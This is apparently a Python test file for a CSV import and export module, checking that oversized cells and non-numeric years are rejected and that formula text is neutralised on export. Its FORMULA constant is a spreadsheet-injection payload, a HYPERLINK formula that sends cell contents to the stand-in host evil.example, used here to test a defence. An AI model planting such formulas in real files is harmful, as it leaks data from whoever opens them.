"""Hostile cells: an enormous cell, wrong types, and formula text. Formulas are stored as the
text typed and leave again neutralised in every export."""

from __future__ import annotations

import polars as pl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from import_kit import dump, load_base, run

from dashboard.exports import to_csv_bytes
from data_access.readers import load_dataset

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


def test_enormous_cell_is_a_clear_error(sqlite_engine):
    load_base(sqlite_engine)
    before = dump(sqlite_engine)
    report = run(sqlite_engine, {"people.csv": "person_code,full_name\nP3," + "A" * 100_000 + "\n"})
    assert [e.kind for e in report.errors] == ["cell_too_long"]  # 100 000 chars > 1 000
    assert dump(sqlite_engine) == before


def test_formula_is_stored_as_text_and_exported_neutralised(sqlite_engine):
    load_base(sqlite_engine)
    report = run(
        sqlite_engine,
        {"people.csv": f'person_code,full_name\nP3,"{FORMULA.replace(chr(34), chr(34) * 2)}"\n'},
    )
    assert report.ok, report.lines()
    with sqlite_engine.connect() as conn:
        people = load_dataset(conn).people
    name = people.filter(pl.col("person_code").cast(pl.String) == "P3")["full_name"][0]
    assert name == FORMULA
    data = to_csv_bytes(pl.DataFrame({"full_name": [name]}), headers="codes")
    assert data.decode("utf-8-sig").splitlines()[1].startswith("\"'=HYPERLINK")


@pytest.mark.slow
@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(year=st.text(min_size=1, max_size=12).filter(lambda s: not s.strip().isdigit()))
def test_wrong_type_in_a_year_is_an_error(sqlite_engine, year):
    if not dump(sqlite_engine)["units"]:
        load_base(sqlite_engine)
    before = dump(sqlite_engine)
    cell = '"' + year.replace('"', '""') + '"'
    report = run(sqlite_engine, {"roster.csv": f"year,person_code,unit_code\n{cell},P1,U1\n"})
    assert not report.ok and dump(sqlite_engine) == before
